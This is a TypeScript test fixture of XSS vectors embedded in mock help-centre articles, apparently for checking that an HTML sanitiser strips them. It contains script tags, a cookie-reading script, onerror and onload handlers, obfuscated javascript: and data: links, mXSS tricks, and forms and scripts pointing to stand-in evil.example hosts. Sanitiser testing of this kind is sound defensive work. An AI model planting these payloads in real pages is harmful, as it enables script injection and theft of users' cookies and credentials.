/**
 * Public articles with hostile HTML, as an author (or a compromised editor account) could paste into
 * Helpjuice. Each vector names a `marker` that must not appear anywhere in sanitised output and a `text`
 * (a sibling paragraph right after the vector) that must still be visible, so a sanitiser that swallows
 * the rest of the document fails too. Markers all start with "hjx".
 */
import type { ArticleDef } from "./article-def";
import { body, h2, p } from "./html";

export interface HostileVector {
  /** Short id, e.g. "script-tag". */
  name: string;
  articleId: number;
  /** The fragment exactly as it appears in the article body. */
  html: string;
  /** Must not appear in the sanitised HTML. */
  marker: string;
  /** Visible text (plain, no markup or entities) that must survive sanitising. */
  text: string;
}

export const YOUTUBE_EMBED = { articleId: 55, src: "https://www.youtube.com/embed/aqz-KE-bpKQ" } as const;

const v = (articleId: number, name: string, marker: string, html: string, text: string): HostileVector => ({
  name,
  articleId,
  html,
  marker,
  text,
});

export const HOSTILE_VECTORS: HostileVector[] = [
  // 55 Embed videos and widgets in an article
  v(55, "iframe-foreign", "hjxIframeForeign", `<iframe src="https://tracker.evil.example/hjxIframeForeign" width="600" height="400"></iframe>`, "Third-party widgets must be approved by your workspace admin."),
  v(55, "iframe-youtube-onload", "hjxYoutubeOnload", `<iframe width="560" height="315" src="${YOUTUBE_EMBED.src}" title="Acme product tour" frameborder="0" allowfullscreen onload="hjxYoutubeOnload()"></iframe>`, "The product tour above takes two minutes."),
  v(55, "iframe-srcdoc", "hjxSrcdoc", `<iframe srcdoc="&lt;script&gt;parent.hjxSrcdoc()&lt;/script&gt;" width="300" height="200"></iframe>`, "Interactive demos open in a separate window."),
  v(55, "iframe-data-url", "hjxDataIframe", `<iframe src="data:text/html,&lt;script&gt;parent.hjxDataIframe()&lt;/script&gt;"></iframe>`, "Embedded previews are generated on our servers."),
  v(55, "object", "hjxObject", `<object data="https://cdn.evil.example/hjxObject.swf" type="application/x-shockwave-flash"><param name="movie" value="https://cdn.evil.example/hjxObject.swf"></object>`, "Legacy Flash demos are no longer supported."),
  v(55, "embed", "hjxEmbed", `<embed src="https://cdn.evil.example/hjxEmbed.swf" type="application/x-shockwave-flash">`, "Use the video block instead of plugin embeds."),

  // 56 Customise your help centre theme
  v(56, "style-tag", "hjxStyleTag", `<style>.hj-article { background: url("https://evil.example/hjxStyleTag.png"); } body { display: none; }</style>`, "Theme colours are set under Settings, Branding."),
  v(56, "style-attr-javascript-url", "hjxStyleAttr", `<p style="background:url(javascript:hjxStyleAttr())">Your logo appears in the header.</p>`, "Brand colours apply to buttons and links."),
  v(56, "style-attr-expression", "hjxStyleExpr", `<div style="width: expression(hjxStyleExpr()); color: red">Headings use your brand font.</div>`, "Fonts load from your own domain."),
  v(56, "meta-refresh", "hjxMetaRefresh", `<meta http-equiv="refresh" content="0; url=https://evil.example/hjxMetaRefresh">`, "Changes appear for visitors within a minute."),
  v(56, "base-href", "hjxBaseHref", `<base href="https://evil.example/hjxBaseHref/">`, "Relative links in articles point to your help centre."),
  v(56, "link-stylesheet", "hjxLinkCss", `<link rel="stylesheet" href="https://evil.example/hjxLinkCss.css">`, "Custom CSS is available on the Business plan."),

  // 57 Troubleshoot the browser extension
  v(57, "script-tag", "hjxScriptTag", `<script>window.hjxScriptTag = document.cookie;</script>`, "Make sure the extension is enabled for this site."),
  v(57, "script-src", "hjxScriptSrc", `<script src="https://evil.example/hjxScriptSrc.js"></script>`, "Reload the page after updating the extension."),
  v(57, "img-onerror", "hjxImgOnerror", `<img src="https://static.helpjuice.com/helpjuice_production/uploads/upload/image/7314/direct/missing.png" alt="The extension's toolbar icon" onerror="hjxImgOnerror()">`, "The toolbar icon turns green when you are signed in."),
  v(57, "img-onerror-mixed-case", "hjxImgOnerrorCase", `<IMG SRC="x" OnError="hjxImgOnerrorCase()" alt="">`, "Pin the extension so its icon stays visible."),
  v(57, "svg-script", "hjxSvgScript", `<svg width="16" height="16"><script>hjxSvgScript()</script><circle cx="8" cy="8" r="8" fill="red"></circle></svg>`, "A red dot means the extension cannot reach Acme."),
  v(57, "svg-onload", "hjxSvgOnload", `<svg onload="hjxSvgOnload()" width="1" height="1"></svg>`, "Check that your firewall allows acme.test."),
  v(57, "svg-xlink-href", "hjxSvgXlink", `<svg width="80" height="20"><a xlink:href="javascript:hjxSvgXlink()"><text x="0" y="15">Open</text></a></svg>`, "The extension needs permission to read the current tab."),
  v(57, "math-mxss", "hjxMathMxss", `<math><mtext><table><mglyph><style><img src=x onerror="hjxMathMxss()"></style></mglyph></table></mtext></math>`, "If nothing helps, reinstall the extension."),
  v(57, "math-href", "hjxMathHref", `<math href="javascript:hjxMathHref()"><mi>x</mi></math>`, "Extensions from other stores are not supported."),
  v(57, "noscript-mxss", "hjxNoscript", `<noscript><p title="</noscript><img src=x onerror=hjxNoscript()>"></p></noscript>`, "Private windows need the extension allowed separately."),
  v(57, "event-handler-div", "hjxOnmouseover", `<div onmouseover="hjxOnmouseover()">Hover over the icon to see your status.</div>`, "Status updates every thirty seconds."),

  // 58 Link to Acme from your app
  v(58, "javascript-href", "hjxJsHref", `<a href="javascript:hjxJsHref()">Open Acme</a>`, "Deep links open the right project directly."),
  v(58, "javascript-href-entity-decimal", "hjxJsEntityDec", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hjxJsEntityDec()">Open the board</a>`, "Board links include the project id."),
  v(58, "javascript-href-entity-hex", "hjxJsEntityHex", `<a href="&#x6A;avascript&#x3A;hjxJsEntityHex()">Open a task</a>`, "Task links include the task number."),
  v(58, "javascript-href-named-colon", "hjxJsColon", `<a href="javascript&colon;hjxJsColon()">Open reports</a>`, "Report links keep the selected filters."),
  v(58, "javascript-href-mixed-case", "hjxJsCase", `<a href="JaVaScRiPt:hjxJsCase()">Open settings</a>`, "Settings links work only for admins."),
  v(58, "javascript-href-whitespace", "hjxJsSpace", `<a href="  \n\t javascript:hjxJsSpace()">Open your profile</a>`, "Profile links open the current user's profile."),
  v(58, "javascript-href-embedded-tab", "hjxJsTab", `<a href="java&#x09;script:hjxJsTab()">Open search</a><a href="java\tscript:hjxJsTab2()">Search again</a>`, "Search links can carry a query."),
  v(58, "javascript-href-control-char", "hjxJsCtrl", `<a href="&#x01;javascript:hjxJsCtrl()">Open inbox</a>`, "Inbox links show unread items first."),
  v(58, "vbscript-href", "hjxVbscript", `<a href="vbscript:hjxVbscript()">Open in Internet Explorer</a>`, "Internet Explorer is not supported."),
  v(58, "data-href", "hjxDataHref", `<a href="data:text/html,&lt;script&gt;hjxDataHref()&lt;/script&gt;">Download the sample</a>`, "Sample files are available in the developer portal."),
  v(58, "data-href-base64", "PHNjcmlwdD5oanhEYXRhQjY0", `<a href="DATA:text/html;base64,PHNjcmlwdD5oanhEYXRhQjY0KCk8L3NjcmlwdD4=">Download the report</a>`, "Reports can also be exported as CSV."),
  v(58, "onclick", "hjxOnclick", `<a href="https://app.acme.test/projects" onclick="hjxOnclick()">Your projects</a>`, "Links to Acme open in the same tab by default."),

  // 59 Add a sign-in form to your intranet
  v(59, "form-action", "hjxFormAction", `<form action="https://evil.example/hjxFormAction" method="post"><label>Email <input type="email" name="email"></label></form>`, "Your intranet should link to the Acme sign-in page instead."),
  v(59, "input-password", "hjxInputPassword", `<input type="password" name="password" placeholder="hjxInputPassword" autocomplete="current-password">`, "Never collect Acme passwords on your own pages."),
  v(59, "button-formaction", "hjxButtonFormaction", `<button formaction="javascript:hjxButtonFormaction()">Sign in</button>`, "SSO users sign in with their identity provider."),
  v(59, "img-srcset-javascript", "hjxSrcset", `<img src="https://static.helpjuice.com/helpjuice_production/uploads/upload/image/7314/direct/sign-in.png" srcset="javascript:hjxSrcset() 2x" alt="The sign-in page">`, "The sign-in page remembers the last workspace."),
];

export const HOSTILE_ARTICLE_IDS = [55, 56, 57, 58, 59];

/** Markup in a description, which Helpjuice returns as `answer_sample` in search and `description` on articles. */
export const HOSTILE_DESCRIPTION = {
  articleId: 57,
  marker: "hjxDescription",
  text: "Fix the extension when the Acme icon stays grey.",
} as const;

const vectorsOf = (id: number) =>
  HOSTILE_VECTORS.filter((x) => x.articleId === id)
    .map((x) => `${x.html}\n${p(x.text)}`)
    .join("\n");

export const HOSTILE_ARTICLES: ArticleDef[] = [
  {
    id: 55,
    cat: 1,
    name: "Embed videos and widgets in an article",
    desc: "Add YouTube videos, demos and third-party widgets to your pages.",
    tags: ["embed", "video", "widgets"],
    body: body(
      p("You can embed videos and interactive content in project pages and in your help centre."),
      h2("Videos and widgets"),
      vectorsOf(55),
      p("Embeds are loaded only when a visitor scrolls to them."),
    ),
  },
  {
    id: 56,
    cat: 1,
    name: "Customise your help centre theme",
    desc: "Colours, fonts and your logo on your Acme help centre.",
    tags: ["theme", "branding", "customise"],
    body: body(
      p("Make the help centre look like the rest of your site with your colours, fonts and logo."),
      h2("Branding"),
      vectorsOf(56),
      p("Preview changes before you publish them."),
    ),
  },
  {
    id: 57,
    cat: 4,
    name: "Troubleshoot the Acme browser extension",
    desc: `${HOSTILE_DESCRIPTION.text} <img src=x onerror="${HOSTILE_DESCRIPTION.marker}()">`,
    tags: ["browser extension", "chrome", "firefox"],
    shape: "object",
    body: body(
      p("The Acme extension for Chrome, Edge and Firefox clips pages into tasks. If it stops working, go through these checks."),
      h2("Checks"),
      vectorsOf(57),
      p("Still not working? Send us the extension version from its About page."),
    ),
  },
  {
    id: 58,
    cat: 2,
    name: "Link to Acme from your app",
    desc: "Deep links to projects, boards and tasks from your own tools.",
    tags: ["links", "deep links", "developers"],
    body: body(
      p("Every page in Acme has a stable URL you can link to from your intranet, wiki or app."),
      h2("Deep links"),
      vectorsOf(58),
      p("Links require the visitor to be signed in to Acme."),
    ),
  },
  {
    id: 59,
    cat: 2,
    name: "Add an Acme sign-in link to your intranet",
    desc: "Send people to the right sign-in page, with SSO when you use it.",
    tags: ["sign in", "intranet", "password"],
    body: body(
      p("A sign-in link on your intranet saves people from typing the workspace address. Do not build your own password form."),
      h2("The sign-in link"),
      vectorsOf(59),
      p("Use https://app.acme.test/login?workspace=yourcompany as the link."),
    ),
  },
];
